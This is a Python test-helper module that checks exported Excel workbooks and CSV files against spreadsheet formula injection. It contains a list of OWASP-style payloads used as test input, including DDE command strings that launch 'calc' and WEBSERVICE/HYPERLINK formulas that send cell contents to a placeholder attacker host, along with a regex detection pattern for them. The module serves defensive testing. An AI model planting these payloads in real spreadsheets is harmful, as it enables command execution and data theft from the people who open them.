"""Text stays text: what to look for in anything that is written, and the values to try it with.

Use `DANGEROUS` as values that come in, then `assert_no_live_content(data, ...)` on each workbook and
`assert_safe_csv(text)` on each CSV that goes out.
"""

import csv
import io
import re
import warnings
import zipfile
from collections.abc import Collection, Iterable, Iterator

import openpyxl
from lxml import etree

# The list of OWASP for CSV injection, with what else spreadsheet programs turn into something that acts.
DANGEROUS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    '=HYPERLINK("http://kwaad.example/?x="&A1,"klik hier")',
    '=WEBSERVICE("http://kwaad.example/"&A1)',
    '=IMPORTXML("http://kwaad.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMAGE("http://kwaad.example/x.png")',
    '=RTD("x",,"y")',
    '";=1+1',
    '",=1+1',
    "'=1+1",
    "{=1+1}",
    "=2+5+cmd|' /C calc'!A0\r\n=1",
    "http://kwaad.example/",
    "https://kwaad.example/",
    "mailto:iemand@kwaad.example",
    "file:///etc/passwd",
    "\\\\kwaad.example\\deel",
    "internal:Blad1!A1",
    "external:c:\\kwaad.xlsx",
    "<b>vet</b>",
    "_x003D_1+1",
    "]]>",
    "&amp;",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_ACTIVE = re.compile(
    r"cmd\||kwaad\.example|WEBSERVICE|IMPORTXML|HYPERLINK\(\"http|DDE\(|RTD\(|IMAGE\(", re.IGNORECASE
)
_PARTS = ("externallinks/", "vbaproject", "activex/", "embeddings/", "connections.xml", "querytables/")


def assert_no_live_content(
    data: bytes, values: Iterable[str] = DANGEROUS, *, links: Collection[str] = ()
) -> None:
    """No formula, link, DDE or macro of a workbook holds a value that came in.

    Args:
        data: The workbook (.xlsx).
        values: The values that came in.
        links: Addresses outside the workbook that may be linked to, because they are ours.
    """
    bare = {re.sub(r"^[\s'=＝]+", "", value) for value in values}
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            assert not any(part in name.casefold() for part in _PARTS), name
            if name.endswith((".xml", ".rels")):
                _assert_dead(etree.fromstring(package.read(name)), name, bare, links)


def _assert_dead(root: etree._Element, part: str, bare: set[str], links: Collection[str]) -> None:
    for node in root.iter("{*}Relationship"):
        if node.get("TargetMode") == "External":
            assert node.get("Target") in links, f"{part}: {node.get('Target')}"
    for node in root.iter("{*}f", "{*}definedName", "{*}formula1", "{*}formula2", "{*}formula"):
        text = re.sub(r"'(?:[^']|'')*'!", "blad!", node.text or "")  # a name of a sheet may say anything
        assert not _ACTIVE.search(text), f"{part}: {text}"
        assert text.strip() not in bare, f"{part}: {text}"
    for node in root.iter("{*}hyperlink"):
        assert not _ACTIVE.search(node.get("location") or ""), f"{part}: {node.get('location')}"
    assert not list(root.iter("{*}ddeLink")), part


def assert_stays_text_when_edited(data: bytes) -> None:
    """A text that begins like a formula has the mark or format by which it stays a text on F2, Enter."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        styles = etree.fromstring(package.read("xl/styles.xml"))
        xfs = [
            xf.get("quotePrefix") in ("1", "true") or xf.get("numFmtId") == "49"
            for xf in styles.iterfind("{*}cellXfs/{*}xf")
        ]
        strings = _shared(package)
        for name in package.namelist():
            if re.fullmatch(r"xl/worksheets/[^/]+\.xml", name):
                for address, style, text in _texts(etree.fromstring(package.read(name)), strings):
                    looks = text.startswith(("=", "+", "-", "@"))
                    assert not looks or xfs[style], f"{name} {address}: {text}"


def _shared(package: zipfile.ZipFile) -> list[str]:
    if "xl/sharedStrings.xml" not in package.namelist():
        return []
    root = etree.fromstring(package.read("xl/sharedStrings.xml"))
    return ["".join(t.text or "" for t in item.iter("{*}t")) for item in root.iterfind("{*}si")]


def _texts(sheet: etree._Element, strings: list[str]) -> Iterator[tuple[str, int, str]]:
    for cell in sheet.iter("{*}c"):
        if cell.find("{*}f") is not None:
            continue
        text = ""
        if cell.get("t") == "s":
            text = strings[int(cell.findtext("{*}v") or 0)]
        elif cell.get("t") in ("str", "inlineStr"):
            text = (cell.findtext("{*}v") or "") + "".join(t.text or "" for t in cell.iter("{*}t"))
        yield str(cell.get("r")), int(cell.get("s") or 0), text


def cells_of(data: bytes) -> dict[tuple[str, str], tuple[str, object]]:
    """Kind (`f` is a formula) and value of every filled cell, as openpyxl reads them."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        (sheet.title, cell.coordinate): (cell.data_type, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def assert_safe_csv(text: str, delimiter: str = ";") -> None:
    """No field of a CSV begins like a formula."""
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter):
        for value in row:
            is_number = re.fullmatch(r"[+-]?\d+(?:[.,]\d+)?", value)
            assert is_number or not value.startswith(STARTS), value
